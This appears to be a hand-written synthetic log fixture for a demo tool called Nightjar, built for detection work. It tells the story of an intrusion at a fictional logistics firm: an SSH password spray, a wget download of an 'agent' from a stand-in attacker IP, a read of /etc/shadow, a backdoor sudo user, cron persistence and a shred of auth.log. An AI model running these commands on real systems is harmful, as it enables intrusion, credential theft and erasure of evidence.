# Part of the intrusion at Kestrel Logistics that docs/demo.md tells. Written by hand for Nightjar, nobody's real log.
# Each line: how long before now, then the record; {bsd} {iso} {clf} {sql} {sqlms} become its time.

# Chapter 2: one password for many names, then svc-backup works
-09:30:00 <38>{bsd} vpn01 sshd[2000]: Failed password for invalid user admin from 203.0.113.66 port 54200 ssh2
-09:29:46 <38>{bsd} vpn01 sshd[2886]: Failed password for invalid user administrator from 203.0.113.66 port 54186 ssh2
-09:29:35 <38>{bsd} vpn01 sshd[2875]: Failed password for invalid user test from 203.0.113.66 port 54175 ssh2
-09:29:20 <38>{bsd} vpn01 sshd[2860]: Failed password for invalid user oracle from 203.0.113.66 port 54160 ssh2
-09:29:01 <38>{bsd} vpn01 sshd[2841]: Failed password for invalid user postgres from 203.0.113.66 port 54141 ssh2
-09:28:52 <38>{bsd} vpn01 sshd[2832]: Failed password for invalid user backup from 203.0.113.66 port 54132 ssh2
-09:28:42 <38>{bsd} vpn01 sshd[2822]: Failed password for invalid user deploy from 203.0.113.66 port 54122 ssh2
-09:28:20 <38>{bsd} vpn01 sshd[2800]: Failed password for invalid user git from 203.0.113.66 port 54100 ssh2
-09:28:03 <38>{bsd} vpn01 sshd[2783]: Failed password for invalid user jenkins from 203.0.113.66 port 54083 ssh2
-09:27:53 <38>{bsd} vpn01 sshd[2773]: Failed password for invalid user nagios from 203.0.113.66 port 54073 ssh2
-09:27:39 <38>{bsd} vpn01 sshd[2759]: Failed password for invalid user ubuntu from 203.0.113.66 port 54059 ssh2
-09:27:21 <38>{bsd} vpn01 sshd[2741]: Failed password for invalid user ftpuser from 203.0.113.66 port 54041 ssh2
-09:27:12 <38>{bsd} vpn01 sshd[2732]: Failed password for invalid user svc-scan from 203.0.113.66 port 54032 ssh2
-09:26:55 <38>{bsd} vpn01 sshd[2715]: Failed password for invalid user svc-print from 203.0.113.66 port 54015 ssh2
-09:26:43 <38>{bsd} vpn01 sshd[2703]: Failed password for invalid user kestrel from 203.0.113.66 port 54003 ssh2
-09:26:34 <38>{bsd} vpn01 sshd[2694]: Failed password for invalid user logistics from 203.0.113.66 port 53994 ssh2
-09:26:24 <38>{bsd} vpn01 sshd[2684]: Failed password for invalid user info from 203.0.113.66 port 53984 ssh2
-09:26:09 <38>{bsd} vpn01 sshd[2669]: Failed password for invalid user sales from 203.0.113.66 port 53969 ssh2
-09:25:54 <38>{bsd} vpn01 sshd[2654]: Failed password for invalid user support from 203.0.113.66 port 53954 ssh2
-09:25:44 <38>{bsd} vpn01 sshd[2644]: Failed password for invalid user dispatch from 203.0.113.66 port 53944 ssh2
-09:25:32 <38>{bsd} vpn01 sshd[2632]: Failed password for invalid user driver from 203.0.113.66 port 53932 ssh2
-09:25:22 <38>{bsd} vpn01 sshd[2622]: Failed password for invalid user warehouse from 203.0.113.66 port 53922 ssh2
-09:25:05 <38>{bsd} vpn01 sshd[2605]: Failed password for invalid user scanner from 203.0.113.66 port 53905 ssh2
-09:24:50 <38>{bsd} vpn01 sshd[2590]: Failed password for invalid user printer from 203.0.113.66 port 53890 ssh2
-09:24:41 <38>{bsd} vpn01 sshd[2581]: Failed password for invalid user office from 203.0.113.66 port 53881 ssh2
-09:24:19 <38>{bsd} vpn01 sshd[2559]: Failed password for invalid user guest from 203.0.113.66 port 53859 ssh2
-09:24:01 <38>{bsd} vpn01 sshd[2541]: Failed password for invalid user user from 203.0.113.66 port 53841 ssh2
-09:23:51 <38>{bsd} vpn01 sshd[2531]: Failed password for invalid user webmaster from 203.0.113.66 port 53831 ssh2
-09:23:39 <38>{bsd} vpn01 sshd[2519]: Failed password for invalid user root1 from 203.0.113.66 port 53819 ssh2
-09:23:20 <38>{bsd} vpn01 sshd[2500]: Failed password for invalid user dev from 203.0.113.66 port 53800 ssh2
-09:23:01 <38>{bsd} vpn01 sshd[2481]: Failed password for invalid user ansible from 203.0.113.66 port 53781 ssh2
-09:22:43 <38>{bsd} vpn01 sshd[2463]: Failed password for invalid user vagrant from 203.0.113.66 port 53763 ssh2
-09:22:34 <38>{bsd} vpn01 sshd[2454]: Failed password for invalid user minio from 203.0.113.66 port 53754 ssh2
-09:22:16 <38>{bsd} vpn01 sshd[2436]: Failed password for invalid user elastic from 203.0.113.66 port 53736 ssh2
-09:21:58 <38>{bsd} vpn01 sshd[2418]: Failed password for invalid user hr from 203.0.113.66 port 53718 ssh2
-09:21:43 <38>{bsd} vpn01 sshd[2403]: Failed password for invalid user finance from 203.0.113.66 port 53703 ssh2
-09:21:34 <38>{bsd} vpn01 sshd[2394]: Failed password for invalid user fleet from 203.0.113.66 port 53694 ssh2
-09:21:22 <38>{bsd} vpn01 sshd[2382]: Failed password for invalid user tracking from 203.0.113.66 port 53682 ssh2
-09:21:13 <38>{bsd} vpn01 sshd[2373]: Failed password for invalid user edi from 203.0.113.66 port 53673 ssh2
-09:20:56 <38>{bsd} vpn01 sshd[2356]: Failed password for invalid user sap from 203.0.113.66 port 53656 ssh2
-09:20:34 <38>{bsd} vpn01 sshd[2334]: Failed password for anna.lind from 203.0.113.66 port 53634 ssh2
-09:20:23 <38>{bsd} vpn01 sshd[2323]: Failed password for piotr.nowak from 203.0.113.66 port 53623 ssh2
-09:20:10 <38>{bsd} vpn01 sshd[2310]: Failed password for svc-backup from 203.0.113.66 port 53610 ssh2
-09:14:05 <38>{bsd} vpn01 sshd[3121]: Accepted password for svc-backup from 203.0.113.66 port 51826 ssh2
-09:14:04 <86>{bsd} vpn01 sshd[3121]: pam_unix(sshd:session): session opened for user svc-backup(uid=998) by (uid=0)

# Chapter 3: root on the jump host
-09:11:40 <85>{bsd} vpn01 sudo[3300]: svc-backup : TTY=pts/1 ; PWD=/home/svc-backup ; USER=root ; COMMAND=/usr/bin/id
-09:11:02 <85>{bsd} vpn01 sudo[3262]: svc-backup : TTY=pts/1 ; PWD=/home/svc-backup ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow
-09:10:11 <85>{bsd} vpn01 sudo[3211]: svc-backup : TTY=pts/1 ; PWD=/home/svc-backup ; USER=root ; COMMAND=/bin/bash
-09:06:30 <85>{bsd} vpn01 sudo[3290]: svc-backup : TTY=pts/1 ; PWD=/home/svc-backup ; USER=root ; COMMAND=/usr/bin/wget -q -O /tmp/.k/agent http://203.0.113.66/agent
-09:05:58 <85>{bsd} vpn01 sudo[3258]: svc-backup : TTY=pts/1 ; PWD=/home/svc-backup ; USER=root ; COMMAND=/usr/bin/chmod 755 /tmp/.k/agent
-09:02:00 <86>{bsd} vpn01 useradd[3391]: new user: name=sysupd, UID=1017, GID=1017, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/1
-09:01:48 <86>{bsd} vpn01 usermod[3394]: add 'sysupd' to group 'sudo'
-08:58:00 <78>{bsd} vpn01 crontab[3410]: (svc-backup) REPLACE (svc-backup)
-08:45:00 <78>{bsd} vpn01 CRON[3500]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)

# A try on the application server fails
-08:19:00 <38>{bsd} app01 sshd[911]: Accepted password for svc-backup from 10.20.0.5 port 40112 ssh2
-08:18:00 <85>{bsd} app01 sudo[3380]: svc-backup : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/svc-backup ; USER=root ; COMMAND=/usr/bin/cat /root/.ssh/id_ed25519
-08:15:00 <78>{bsd} vpn01 CRON[3501]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-07:45:00 <78>{bsd} vpn01 CRON[3502]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-07:15:00 <78>{bsd} vpn01 CRON[3503]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-06:45:00 <78>{bsd} vpn01 CRON[3504]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-06:15:00 <78>{bsd} vpn01 CRON[3505]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-05:45:00 <78>{bsd} vpn01 CRON[3506]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-05:15:00 <78>{bsd} vpn01 CRON[3507]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-04:45:00 <78>{bsd} vpn01 CRON[3508]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-04:15:00 <78>{bsd} vpn01 CRON[3509]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-03:45:00 <78>{bsd} vpn01 CRON[3510]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-03:15:00 <78>{bsd} vpn01 CRON[3511]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-02:45:00 <78>{bsd} vpn01 CRON[3512]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-02:15:00 <78>{bsd} vpn01 CRON[3513]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-01:45:00 <78>{bsd} vpn01 CRON[3514]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-01:15:00 <78>{bsd} vpn01 CRON[3515]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
-00:45:00 <78>{bsd} vpn01 CRON[3516]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)

# Chapter 11: the traces are wiped
-00:31:00 <85>{bsd} vpn01 sudo[3260]: svc-backup : TTY=pts/1 ; PWD=/home/svc-backup ; USER=root ; COMMAND=/usr/bin/shred -u /var/log/auth.log
-00:30:00 <38>{bsd} vpn01 sshd[3121]: pam_unix(sshd:session): session closed for user svc-backup
-00:15:00 <78>{bsd} vpn01 CRON[3517]: (svc-backup) CMD (/tmp/.k/agent -q >/dev/null 2>&1)
